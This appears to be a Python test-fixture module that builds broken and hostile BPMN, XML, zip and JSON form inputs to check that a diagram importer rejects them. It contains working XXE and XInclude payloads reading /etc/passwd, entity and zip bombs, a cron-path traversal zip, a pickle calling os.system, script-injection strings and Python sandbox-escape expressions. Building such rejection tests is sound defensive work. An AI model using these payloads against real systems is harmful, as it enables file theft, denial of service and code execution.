"""Files that nobody should have to fear: broken, huge, lying about what they are, or out to run something."""

import io
import zipfile
from collections.abc import Callable
from itertools import pairwise

BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL"
HEAD = (
    f'<bpmn:definitions xmlns:bpmn="{BPMN}" xmlns:zeebe="http://camunda.org/schema/zeebe/1.0" '
    'xmlns:camunda="http://camunda.org/schema/1.0/bpmn" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" id="d" targetNamespace="t">'
)
PASSWORDS = "file:///etc/passwd"


def bpmn(body: str, roots: str = "", id: str = "p") -> bytes:
    """A diagram of one process."""
    return (
        f'{HEAD}{roots}<bpmn:process id="{id}" isExecutable="true">{body}</bpmn:process></bpmn:definitions>'
    ).encode()


def line(task: str, *, id: str = "t", process: str = "p", roots: str = "") -> bytes:
    """Start, one task, end."""
    flows = "".join(
        f'<bpmn:sequenceFlow id="{a}_{b}" sourceRef="{a}" targetRef="{b}"/>'
        for a, b in pairwise(("s", id, "e"))
    )
    return bpmn(f'<bpmn:startEvent id="s"/>{task}<bpmn:endEvent id="e"/>{flows}', roots, process)


def task(kind: str, inner: str = "", **attributes: str) -> bytes:
    """A diagram with one task `t`."""
    more = "".join(f' {name.replace("__", ":")}="{value}"' for name, value in attributes.items())
    return line(f'<bpmn:{kind} id="t"{more}>{inner}</bpmn:{kind}>')


def _text(text: str) -> bytes:
    return text.encode()


def ext(inner: str) -> str:
    """Extension elements."""
    return f"<bpmn:extensionElements>{inner}</bpmn:extensionElements>"


def _bomb(levels: int = 9) -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, levels + 1)
    )
    return f'<?xml version="1.0"?><!DOCTYPE x [{entities}]>{HEAD}&a{levels};</bpmn:definitions>'.encode()


def _quadratic() -> bytes:
    return (f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><x>' + "&a;" * 50_000 + "</x>").encode()


def _external(kind: str) -> bytes:
    return f'<!DOCTYPE x [<!ENTITY e {kind} "{PASSWORDS}">]>{HEAD}&e;</bpmn:definitions>'.encode()


def _parameter_entity() -> bytes:
    return b'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://127.0.0.1:9/evil.dtd"> %e;]><x/>'


def _many_elements() -> bytes:
    tasks = "".join(f'<bpmn:task id="t{n}"/>' for n in range(100_000))
    return bpmn(f'<bpmn:startEvent id="s"/>{tasks}')


def _many_attributes() -> bytes:
    attributes = " ".join(f'a{n}="{n}"' for n in range(100_000))
    return bpmn(f"<bpmn:task id='t' {attributes}/>")


def _many_namespaces() -> bytes:
    declared = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(20_000))
    return f'<bpmn:definitions xmlns:bpmn="{BPMN}" {declared}/>'.encode()


def _deep_xml(levels: int) -> bytes:
    open_, close = '<bpmn:subProcess id="s{}">', "</bpmn:subProcess>"
    return bpmn("".join(open_.format(n) for n in range(levels)) + close * levels)


def _long_text() -> bytes:
    return task("scriptTask", ext(f'<zeebe:script expression="={"1+" * 2_000_000}1" resultVariable="x"/>'))


def _too_many_bytes() -> bytes:
    return bpmn("<!--" + "x" * 9 * 1024 * 1024 + "-->")


def _flow_heap() -> bytes:
    """A gateway with ten thousand ways to one task."""
    flows = "".join(f'<bpmn:sequenceFlow id="f{n}" sourceRef="g" targetRef="t"/>' for n in range(10_000))
    return bpmn(f'<bpmn:startEvent id="s"/><bpmn:parallelGateway id="g"/><bpmn:task id="t"/>{flows}')


def _zip(members: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return packed.getvalue()


def _good_diagram() -> bytes:
    return task("manualTask")


BAD_XML: dict[str, Callable[[], bytes]] = {
    "an entity bomb": _bomb,
    "a quadratic entity bomb": _quadratic,
    "an external entity": lambda: _external("SYSTEM"),
    "a public external entity": lambda: _external('PUBLIC "-//X"'),
    "a parameter entity": _parameter_entity,
    "a harmless DOCTYPE": lambda: b"<!DOCTYPE definitions>" + _good_diagram(),
    "a DOCTYPE in lower case": lambda: b"<!doctype definitions>" + _good_diagram(),
    "a DOCTYPE in UTF-16": lambda: _bomb().decode().encode("utf-16"),
    "a DOCTYPE after a comment": lambda: b"<!-- --><?a b?>\n<!DOCTYPE d>" + _good_diagram(),
    "an included file": lambda: _text(
        f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{PASSWORDS}"/></x>'
    ),
    "nothing": lambda: b"",
    "white space": lambda: b" \n\t ",
    "a zero byte": lambda: b"\0",
    "no XML": lambda: b"hello",
    "HTML": lambda: b"<!doctype html><html><body><br></body></html>",
    "an SVG": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "half a file": lambda: _good_diagram()[:-40],
    "two roots": lambda: _good_diagram() + _good_diagram(),
    "an undeclared prefix": lambda: b"<bpmn:definitions/>",
    "a control character": lambda: _good_diagram().replace(b'id="t"', b'id="t\x01"'),
    "a character reference to zero": lambda: _good_diagram().replace(b'id="t"', b'id="&#0;"'),
    "a surrogate reference": lambda: _good_diagram().replace(b'id="t"', b'id="&#xD800;"'),
    "an attribute twice": lambda: _good_diagram().replace(b'id="t"', b'id="t" id="t"'),
    "bytes that are not UTF-8": lambda: _good_diagram().replace(b'id="t"', b'id="\xff\xfe"'),
    "overlong UTF-8": lambda: _good_diagram().replace(b'id="t"', b'id="\xc0\xaf"'),
    "UTF-7": lambda: b'<?xml version="1.0" encoding="UTF-7"?>' + _good_diagram(),
    "an encoding that unpacks": lambda: b'<?xml version="1.0" encoding="zip_codec"?>' + _good_diagram(),
    "an encoding that nobody knows": lambda: b'<?xml version="1.0" encoding="x-no"?>' + _good_diagram(),
    "UTF-16 that says UTF-8 and is cut": lambda: _good_diagram().decode().encode("utf-16")[:-1],
    "UTF-32": lambda: _good_diagram().decode().encode("utf-32"),
    "EBCDIC": lambda: _good_diagram().decode().encode("cp037"),
    "a zip": lambda: _zip({"a.bpmn": _good_diagram()}),
    "a zip bomb": lambda: _zip({"a.bpmn": b"0" * 30_000_000}),
    "a zip behind a good diagram": lambda: _good_diagram() + _zip({"../../etc/cron.d/x": b"x"}),
    "a gzip": lambda: b"\x1f\x8b\x08\x00" + b"\0" * 100,
    "a PDF": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript>>>>endobj",
    "a program": lambda: b"\x7fELF" + bytes(range(256)) * 10,
    "a pickle": lambda: b"\x80\x04\x95\x1d\x00\x00\x00cos\nsystem\n(S'id'\ntR.",
    "a hundred thousand elements": _many_elements,
    "a hundred thousand attributes": _many_attributes,
    "twenty thousand namespaces": _many_namespaces,
    "ten thousand levels": lambda: _deep_xml(10_000),
    "a hundred and one levels": lambda: _deep_xml(101),
    "nine megabytes": _too_many_bytes,
    "an attribute of four megabytes": _long_text,
}
"""Refused as XML, or as what they pretend to be, whatever their suffix."""


def _called(ids: list[str]) -> dict[str, bytes]:
    """Processes each of which calls the next, and the last the first."""
    calls = pairwise([*ids, ids[0]])
    return {
        f"{a}.bpmn": line(
            f'<bpmn:callActivity id="t">{ext(f"""<zeebe:calledElement processId="{b}"/>""")}</bpmn:callActivity>',
            process=a,
        )
        for a, b in calls
    }


CYCLES = {
    "itself": _called(["p1"]),
    "in pairs": _called(["p1", "p2"]),
    "in a ring": _called(["p1", "p2", "p3"]),
}
"""Sets of diagrams that call each other in a circle."""

BAD_DIAGRAMS: dict[str, Callable[[], bytes]] = {
    "another vocabulary": lambda: b'<definitions xmlns="urn:x"/>',
    "BPMN without a process": lambda: _text(f"{HEAD}</bpmn:definitions>"),
    "a process without id": lambda: _text(f"{HEAD}<bpmn:process isExecutable='true'/></bpmn:definitions>"),
    "an empty process": lambda: bpmn(""),
    "the same id twice": lambda: bpmn('<bpmn:startEvent id="s"/><bpmn:endEvent id="s"/>'),
    "an empty id": lambda: bpmn('<bpmn:startEvent id=""/>'),
    "no id": lambda: bpmn("<bpmn:startEvent/>"),
    "a flow to nowhere": lambda: bpmn(
        '<bpmn:startEvent id="s"/><bpmn:sequenceFlow id="f" sourceRef="s" targetRef="ghost"/>'
    ),
    "a flow without ends": lambda: bpmn('<bpmn:startEvent id="s"/><bpmn:sequenceFlow id="f"/>'),
    "a boundary event on nothing": lambda: bpmn(
        '<bpmn:startEvent id="s"/><bpmn:boundaryEvent id="b" attachedToRef="ghost">'
        "<bpmn:timerEventDefinition/></bpmn:boundaryEvent>"
    ),
    "a boundary event on itself": lambda: bpmn(
        '<bpmn:startEvent id="s"/><bpmn:boundaryEvent id="b" attachedToRef="b">'
        "<bpmn:timerEventDefinition/></bpmn:boundaryEvent>"
    ),
    "a message that is not there": lambda: task("receiveTask", messageRef="ghost"),
    "ten thousand ways to one task": _flow_heap,
    "an inner sub-process without end": lambda: task("subProcess", ""),
    "nested to the limit": lambda: _deep_xml(90),
}
"""XML that is not a diagram that runs."""


def _python(body: str = "import os; os.system('id')") -> str:
    return f"<bpmn:script>{body}</bpmn:script>"


def _expression(text: str) -> bytes:
    escaped = text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    return task("scriptTask", ext(f'<zeebe:script expression="{escaped}" resultVariable="x"/>'))


CODE: dict[str, Callable[[], bytes]] = {
    "a Python script": lambda: task("scriptTask", _python(), scriptFormat="python"),
    "a Python script without a format": lambda: task("scriptTask", _python()),
    "a JavaScript script": lambda: task(
        "scriptTask", _python("java.lang.Runtime.getRuntime()"), scriptFormat="javascript"
    ),
    "a Groovy file": lambda: task("scriptTask", "", camunda__resource="classpath://x.groovy"),
    "a Java class": lambda: task("serviceTask", "", camunda__class="java.lang.Runtime"),
    "a Java expression": lambda: task("serviceTask", "", camunda__expression="${runtime.exec('id')}"),
    "a delegate": lambda: task("serviceTask", "", camunda__delegateExpression="${bean}"),
    "a Java listener": lambda: task("userTask", ext('<camunda:executionListener class="x" event="start"/>')),
    "a script listener": lambda: task(
        "userTask",
        ext(
            '<camunda:taskListener event="create"><camunda:script scriptFormat="python">1</camunda:script>'
            "</camunda:taskListener>"
        ),
    ),
    "a Zeebe listener": lambda: task(
        "userTask",
        ext(
            '<zeebe:executionListeners><zeebe:executionListener eventType="start" type="os.system"/>'
            "</zeebe:executionListeners>"
        ),
    ),
    "a verb that is a Python function": lambda: task(
        "serviceTask", ext('<zeebe:taskDefinition type="os.system"/>')
    ),
    "a Spiff pre-script": lambda: task(
        "manualTask",
        ext(
            '<spiff:preScript xmlns:spiff="http://spiffworkflow.org/bpmn/schema/1.0/core">import os'
            "</spiff:preScript>"
        ),
    ),
    "a Spiff service": lambda: task(
        "serviceTask",
        ext(
            '<spiff:serviceTaskOperator xmlns:spiff="http://spiffworkflow.org/bpmn/schema/1.0/core" id="x"/>'
        ),
    ),
}
"""Diagrams that bring code of their own, or name code of ours."""

EXPRESSIONS = (
    "=__import__('os').system('id')",
    "=().__class__.__bases__",
    "=lambda: 1",
    "=exec('1')",
    "=open('/etc/passwd')",
    "={{ 7*7 }}",
    "=${7*7}",
    "=",
    "==1",
    "=1 +",
    '="',
    "=" + "(" * 3000,
    "=x.y.",
)
"""Texts that are no FEEL, however they may run elsewhere."""


NAMES = ("=x.__class__", "=y.__class__.__mro__", "=z.__dict__", "=__builtins__", "=x.format", "=y.append")
"""Texts that are FEEL, and mean nothing but null."""


def expression(text: str) -> bytes:
    """A diagram whose script task has that expression."""
    return _expression(text)


BAD_FORMS: dict[str, bytes] = {
    "nothing": b"",
    "no JSON": b"hello",
    "half a file": b'{"id": "f", "components": [',
    "a list": b"[]",
    "a number": b"7",
    "null": b"null",
    "NaN": b'{"id": "f", "schemaVersion": NaN, "components": []}',
    "Infinity": b'{"id": "f", "schemaVersion": 19, "components": [], "x": -Infinity}',
    "a key twice": b'{"id": "f", "id": "g", "schemaVersion": 19, "components": []}',
    "a huge number": b'{"id": "f", "schemaVersion": 1e999999999, "components": []}',
    "a number of a million digits": b'{"id": "f", "schemaVersion": '
    + b"9" * 1_000_000
    + b', "components": []}',
    "a hundred thousand levels": b"[" * 100_000,
    "a deep form": b'{"id":"f","schemaVersion":19,"components":' + b"[" * 900 + b"]" * 900 + b"}",
    "bytes that are not UTF-8": b'{"id": "\xff", "components": []}',
    "UTF-16": '{"id": "f", "schemaVersion": 19, "components": []}'.encode("utf-16"),
    "a lone surrogate": b'{"id": "f\\ud800", "schemaVersion": 19, "type": "default", "components": []}',
    "a zero in the id": b'{"id": "f\\u0000", "schemaVersion": 19, "type": "default", "components": []}',
    "no id": b'{"schemaVersion": 19, "type": "default", "components": []}',
    "components that are text": b'{"id": "f", "schemaVersion": 19, "type": "default", "components": "x"}',
    "a reserved key": (
        b'{"id": "f", "schemaVersion": 19, "type": "default", "components": '
        b'[{"type": "textfield", "key": "typename", "label": "x", "id": "a"}]}'
    ),
    "a key with underscores": (
        b'{"id": "f", "schemaVersion": 19, "type": "default", "components": '
        b'[{"type": "textfield", "key": "__builtins__", "label": "x", "id": "a"}]}'
    ),
    "a component that is not known": (
        b'{"id": "f", "schemaVersion": 19, "type": "default", "components": '
        b'[{"type": "iframe", "url": "javascript:alert(1)", "id": "a"}]}'
    ),
    "a zip": _zip({"f.form": b"{}"}),
}
